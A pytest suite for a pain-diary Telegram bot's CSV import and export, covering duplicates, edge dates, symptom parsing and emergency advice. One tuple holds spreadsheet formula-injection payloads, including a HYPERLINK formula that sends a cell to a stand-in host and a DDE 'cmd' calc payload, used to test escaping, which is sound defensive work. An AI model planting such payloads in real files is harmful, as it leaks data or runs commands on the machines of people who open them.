"""Importing a CSV through the engine and Telegram: all or nothing, never twice."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime, time, timedelta
from pathlib import Path

import pytest
from telegram import Update

from bot.console import run_console
from bot.engine import Engine
from bot.reply import Reply, Who
from bot.telegram_bot import build_application
from flows.clinical.codes import Finding
from flows.dialogs.transfer import DocumentFile
from flows.records.models import NewEntry, Profile
from tests.bot.test_export import ASKED, FRESH, choose, export, pdf_text
from tests.bot.test_export import PAT as EXPORTER
from tests.bot.test_telegram import USER
from tests.clock import FakeClock
from tests.fakes import TOKEN, OfflineBotApi, callback_update, message_update

PAT = Who(user_id=USER)
CSV = "date,time,back_pain,leg_pain,symptoms,note\n2026-02-01,20:15,5,2,,first\n" + "".join(
    f"2026-02-{d:02d},20:00,{d % 7},1,,\n" for d in range(2, 20)
)


async def consent(engine: Engine) -> None:
    await engine.store.unit(
        engine.clock(),
        lambda s: s.save_profile(
            Profile(user_id=USER, consented_at=datetime(2026, 1, 1, tzinfo=UTC), country="GB")
        ),
    )


async def import_file(engine: Engine, text: str) -> str:
    reply = await engine.on_document(PAT, DocumentFile(filename="d.csv", text=text))
    assert reply.screen is not None
    [confirm] = [b for row in reply.screen.buttons for b in row if b.label == "✅ Import"]
    done = await engine.on_press(PAT, reply.button_data(confirm.value))
    return "\n".join(n.text for n in done.notices)


async def test_import_twice_adds_the_entries_once(engine: Engine) -> None:
    await consent(engine)
    assert "19 entries added, 0 already in your diary" in await import_file(engine, CSV)
    assert "0 entries added, 19 already in your diary" in await import_file(engine, CSV)
    entries = await engine.store.entries_between(USER, date(2026, 1, 1), date(2026, 3, 1))
    assert len(entries) == 19
    assert entries[0].note == "first"


async def test_two_alike_entries_of_a_file_stay_two_and_a_second_import_adds_none(
    engine: Engine,
) -> None:
    await consent(engine)
    # Two entries typed days later for the same day, alike: neither has a time of its own.
    twice = diary_csv([("2026-03-07", "", "4", "2", "", ""), ("2026-03-07", "", "4", "2", "", "")])
    assert "2 entries added, 0 already in your diary" in await import_file(engine, twice)
    assert "0 entries added, 2 already in your diary" in await import_file(engine, twice)
    entries = await engine.store.entries_between(USER, date(2026, 3, 7), date(2026, 3, 7))
    assert len(entries) == 2


async def test_another_users_press_on_a_preview_imports_nothing(engine: Engine) -> None:
    await consent(engine)
    reply = await engine.on_document(PAT, DocumentFile(filename="d.csv", text=CSV))
    assert reply.screen is not None
    other = await engine.on_press(Who(user_id=USER + 1), reply.button_data("confirm"))
    assert other.verdict.value == "stale"
    entries = await engine.store.entries_between(USER, date(2026, 1, 1), date(2026, 3, 1))
    assert entries == []


async def test_upload_in_telegram_previews_and_imports(engine: Engine) -> None:
    await consent(engine)
    api = OfflineBotApi()
    api.files["doc1"] = CSV.encode("utf-8-sig")
    app = build_application(TOKEN, engine, request=api, rate_limit=False)
    async with app:
        upload = message_update(
            10,
            USER,
            None,
            extra={
                "document": {
                    "file_id": "doc1",
                    "file_unique_id": "doc1",
                    "file_name": "diary.csv",
                    "mime_type": "text/csv",
                    "file_size": len(api.files["doc1"]),
                }
            },
        )
        await app.process_update(Update.de_json(upload, app.bot))
        assert "I found 19 entries from 2026-02-01 to 2026-02-19." in api.texts()[-1]
        keyboard = dict(api.last_keyboard())
        await app.process_update(
            Update.de_json(callback_update(11, USER, keyboard["✅ Import"]), app.bot)
        )
        assert "19 entries added" in api.texts()[-1]
        big = message_update(
            12,
            USER,
            None,
            extra={
                "document": {
                    "file_id": "big",
                    "file_unique_id": "big",
                    "file_name": "big.csv",
                    "file_size": 6_000_000,
                }
            },
        )
        await app.process_update(Update.de_json(big, app.bot))
        assert "too large" in api.texts()[-1]
        assert [c.method for c in api.calls].count("getFile") == 1
    entries = await engine.store.entries_between(USER, date(2026, 1, 1), date(2026, 3, 1))
    assert len(entries) == 19


def write_csv(folder: Path) -> Path:
    path = folder / "d.csv"
    path.write_text(CSV, encoding="utf-8")
    return path


async def test_console_import_reads_a_path(engine: Engine, tmp_path: Path) -> None:
    await consent(engine)
    path = write_csv(tmp_path)
    out = io.StringIO()
    await run_console(engine, USER, io.StringIO(f"/import {path}\n1\n"), out)
    assert "I found 19 entries" in out.getvalue()
    assert "19 entries added" in out.getvalue()


# Notes a spreadsheet would run as formulas (issue 14), and notes that only look like them.
FORMULA_NOTES = (
    '=HYPERLINK("http://x/?d="&A2,"Open")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-2+3",
    "@SUM(1,1)",
    "'=x",
    "-",
)


def diary_csv(rows: list[tuple[str, ...]]) -> str:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(("date", "time", "back_pain", "leg_pain", "symptoms", "note"))
    writer.writerows(rows)
    return buffer.getvalue()


async def save_profile(engine: Engine, who: Who, zone: str) -> None:
    profile = Profile(
        user_id=who.user_id,
        consented_at=datetime(2026, 1, 1, tzinfo=UTC),
        timezone=zone,
        details_asked_at=ASKED,
    )
    await engine.store.unit(engine.clock(), lambda s: s.save_profile(profile))


async def import_as(engine: Engine, who: Who, text: str) -> Reply:
    preview = await engine.on_document(who, DocumentFile(filename="d.csv", text=text))
    return await choose(engine, who, preview, "Import")


async def notes_of(engine: Engine, who: Who) -> list[str | None]:
    entries = await engine.store.entries_between(who.user_id, date.min, date(2026, 12, 31))
    return [e.note for e in sorted(entries, key=lambda e: e.entry_date)]


def fhir_notes(node: object) -> list[str]:
    if isinstance(node, list):
        return [note for item in node for note in fhir_notes(item)]
    if not isinstance(node, dict):
        return []
    if node.get("linkId") == "note":
        return [answer["valueString"] for answer in node["answer"]]
    return [note for value in node.values() for note in fhir_notes(value)]


async def test_formula_notes_are_text_in_the_csv_verbatim_elsewhere_and_reimport_as_typed(
    engine: Engine,
) -> None:
    await save_profile(engine, EXPORTER, "Europe/Berlin")
    await save_profile(engine, FRESH, "Europe/Berlin")
    typed = [
        NewEntry(
            entry_date=date(2026, 3, 1 + n),
            recorded_at=datetime(2026, 3, 1 + n, 8, tzinfo=UTC),
            timezone="Europe/Berlin",
            back_pain=4,
            note=note,
        )
        for n, note in enumerate(FORMULA_NOTES)
    ]
    await engine.store.unit(
        engine.clock(), lambda s: [s.add_entry(EXPORTER.user_id, entry) for entry in typed]
    )

    reply = await export(engine, "Everything", "CSV")
    assert reply.document is not None
    exported = reply.document[1].decode("utf-8")
    cells = [row["note"] for row in csv.DictReader(io.StringIO(exported, newline=""))]
    assert cells == [
        '\'=HYPERLINK("http://x/?d="&A2,"Open")',
        "'=cmd|' /C calc'!A0",
        "'+SUM(1,1)",
        "'-2+3",
        "'@SUM(1,1)",
        "''=x",
        "'-",
    ]
    done = await import_as(engine, FRESH, exported)
    assert "7 entries added" in done.notices[0].text
    assert await notes_of(engine, FRESH) == list(FORMULA_NOTES)

    # FHIR and the PDF are not spreadsheets: they carry the notes as typed.
    reply = await export(engine, "Everything", "FHIR")
    assert reply.document is not None
    assert fhir_notes(json.loads(reply.document[1])) == list(FORMULA_NOTES)
    reply = await export(engine, "Everything", "PDF")
    assert reply.document is not None
    text = pdf_text(reply.document[1])
    for note in ("+SUM(1,1)", "-2+3", "@SUM(1,1)", "'=x"):
        assert note in text
    assert "'+SUM" not in text
    assert "''=x" not in text


@pytest.mark.parametrize(
    ("zone", "today"),
    [("America/Los_Angeles", "2026-03-10"), ("Pacific/Kiritimati", "2026-03-11")],
)
async def test_edge_dates_are_skipped_lines_and_only_the_rest_is_stored(
    engine: Engine, zone: str, today: str
) -> None:
    await save_profile(engine, PAT, zone)
    text = diary_csv(
        [
            ("0001-01-01", "", "4", "", "", "year one"),
            ("9999-12-31", "23:59", "4", "", "", "end of time"),
            ("2026-03-12", "08:00", "4", "", "", "the day after tomorrow"),
            (today, "23:59", "4", "", "", "today"),
        ]
    )
    preview = await engine.on_document(PAT, DocumentFile(filename="d.csv", text=text))
    assert preview.screen is not None
    assert f"I found 1 entry from {today} to {today}." in preview.screen.text
    assert "3 rows will be skipped" in preview.screen.text
    assert "line 2: date 0001-01-01 is too long ago" in preview.screen.text
    assert f"line 3: date 9999-12-31 is in the future; the latest date I can take is {today}" in (
        preview.screen.text
    )
    done = await choose(engine, PAT, preview, "Import")
    assert "1 entry added" in done.notices[0].text
    assert await notes_of(engine, PAT) == ["today"]


async def exported(engine: Engine, fmt: str) -> str:
    reply = await export(engine, "Everything", fmt)
    assert reply.document is not None
    return reply.document[1].decode("utf-8") if fmt != "PDF" else pdf_text(reply.document[1])


def csv_times(text: str) -> list[tuple[str, str, str]]:
    return [(r["date"], r["time"], r["note"]) for r in csv.DictReader(io.StringIO(text))]


def fhir_values(node: object, key: str) -> list[str]:
    if isinstance(node, list):
        return [value for item in node for value in fhir_values(item, key)]
    if not isinstance(node, dict):
        return []
    found = [node[key]] if key in node else []
    return found + [value for item in node.values() for value in fhir_values(item, key)]


async def test_an_entry_without_a_time_keeps_none_and_our_own_export_reimports_as_present(
    engine: Engine, clock: FakeClock
) -> None:
    await save_profile(engine, EXPORTER, "Europe/Berlin")
    # At 07:15 in Berlin the patient logged an entry about yesterday, as /log stores it.
    clock.now = datetime(2026, 3, 10, 6, 15, tzinfo=UTC)
    yesterday = NewEntry(
        entry_date=date(2026, 3, 9),
        recorded_at=clock.now,
        timezone="Europe/Berlin",
        back_pain=6,
        leg_pain=3,
    )
    await engine.store.unit(clock.now, lambda s: s.add_entry(EXPORTER.user_id, yesterday))
    paper = diary_csv(
        [
            ("2026-03-01", "", "4", "2", "", "paper diary"),
            ("2026-03-02", "21:30", "3", "1", "", "with a time"),
            ("2026-03-10", "", "5", "", "", "today, no time"),
        ]
    )
    done = await import_as(engine, EXPORTER, paper)
    assert "3 entries added, 0 already in your diary" in done.notices[0].text

    first = await exported(engine, "CSV")
    assert csv_times(first) == [
        ("2026-03-01", "", "paper diary"),
        ("2026-03-02", "21:30", "with a time"),
        ("2026-03-09", "", ""),
        ("2026-03-10", "", "today, no time"),
    ]
    # Our own export, and the patient's file again, are already in the diary.
    for again in (first, paper):
        done = await import_as(engine, EXPORTER, again)
        assert "0 entries added" in done.notices[0].text
    entries = await engine.store.entries_between(EXPORTER.user_id, date.min, date(2026, 12, 31))
    assert [(e.entry_date, e.own_time()) for e in entries] == [
        (date(2026, 3, 1), None),
        (date(2026, 3, 2), time(21, 30)),
        (date(2026, 3, 9), None),
        (date(2026, 3, 10), None),
    ]
    assert await exported(engine, "CSV") == first

    # No invented noon in the surgeon's files either: FHIR dates an entry without a time by
    # its day alone, and `authored` is when it was recorded in the bot (the import, 07:15).
    bundle = json.loads(await exported(engine, "FHIR"))
    authored = fhir_values(bundle, "authored")
    assert len(authored) == 4
    assert not any("T12:00" in moment for moment in authored)
    assert set(fhir_values(bundle, "effectiveDateTime")) == {
        "2026-03-01",
        "2026-03-02T21:30:00+01:00",
        "2026-03-09",
        "2026-03-10",
    }
    assert "12:00" not in await exported(engine, "PDF")


async def test_a_symptom_not_understood_is_listed_and_the_rest_of_its_row_is_stored(
    engine: Engine,
) -> None:
    await consent(engine)
    text = diary_csv(
        [
            ("2026-02-01", "20:00", "5", "7", "muscle_spasm", "bad night"),
            ("2026-02-02", "20:00", "4", "6", "Pain down one leg; PAIN_NEUROPATHIC", ""),
        ]
    )
    preview = await engine.on_document(PAT, DocumentFile(filename="d.csv", text=text))
    assert preview.screen is not None
    assert "I found 2 entries from 2026-02-01 to 2026-02-02." in preview.screen.text
    assert "• line 2: symptom 'muscle_spasm' not understood" in preview.screen.text
    done = await choose(engine, PAT, preview, "Import")
    assert "2 entries added" in done.notices[0].text
    entries = await engine.store.entries_between(USER, date(2026, 2, 1), date(2026, 2, 2))
    assert [(e.back_pain, e.leg_pain, e.symptoms, e.note) for e in entries] == [
        (5, 7, (), "bad night"),
        (4, 6, (Finding.PAIN_ONE_LEG, Finding.PAIN_NEUROPATHIC), None),
    ]


async def test_a_warning_sign_in_the_files_last_days_is_answered_as_the_diary_answers_it(
    engine: Engine, clock: FakeClock
) -> None:
    who = Who(user_id=95)
    profile = Profile(
        user_id=who.user_id,
        consented_at=datetime(2026, 1, 1, tzinfo=UTC),
        timezone="Europe/Berlin",
        country="DE",
        details_asked_at=ASKED,
    )
    await engine.store.unit(clock(), lambda s: s.save_profile(profile))
    today = clock().date()
    recent = (today.replace(day=today.day - 2)).isoformat()
    week_old = (today.replace(day=today.day - 7)).isoformat()
    # Seven days back is past the days a diary's red flag stands (§8.7): filed, not answered.
    quiet = await import_as(
        engine, who, diary_csv([(week_old, "", "4", "2", "bladder_change", "")])
    )
    assert quiet.advice == ()
    assert quiet.screen is not None
    assert quiet.screen.text.startswith("Importing 1 entry")

    reply = await import_as(engine, who, diary_csv([(recent, "", "5", "3", "bladder_change", "")]))

    assert reply.screen is not None
    assert reply.screen.text.startswith("⚠️ Call 112 or go to the nearest Emergency Department now")
    [delivery] = reply.advice
    assert "Call 112" in delivery.text
    assert "bladder" in delivery.text
    stored = await engine.store.read(
        lambda s: s.advice_between(who.user_id, clock() - timedelta(days=1), clock())
    )
    assert [a.kind.value for a in stored] == ["emergency"]
    assert len(await notes_of(engine, who)) == 2
    # The same file again adds nothing, and the sign it brought was answered already.
    again = await import_as(engine, who, diary_csv([(recent, "", "5", "3", "bladder_change", "")]))
    assert again.advice == ()
